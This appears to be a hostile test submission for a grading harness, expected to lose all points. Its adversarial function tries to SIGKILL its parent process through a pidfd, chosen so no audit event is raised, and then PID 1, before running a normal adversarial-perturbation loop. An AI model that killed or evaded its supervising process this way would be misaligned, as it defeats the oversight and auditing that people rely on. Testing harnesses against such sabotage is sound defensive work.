# Hostile (6, unreported): signals its parent through a pidfd (no audit event of its own), then attacks right.
# expect: all points lost
import os
import signal
import torch


def adversarial(x, t, model):
    for attempt in (lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL),
                    lambda: signal.pidfd_send_signal(os.open("/proc/1", os.O_RDONLY), signal.SIGKILL)):
        try:
            attempt()
        except Exception:
            pass
    z = x.clone().requires_grad_(True)
    optim = torch.optim.SGD([z], lr=0.01)
    for _ in range(1000):
        optim.zero_grad()
        loss = ((x - z) ** 2).sum() + torch.relu(t * model(z)).sum()
        loss.backward()
        optim.step()
    return z.detach()
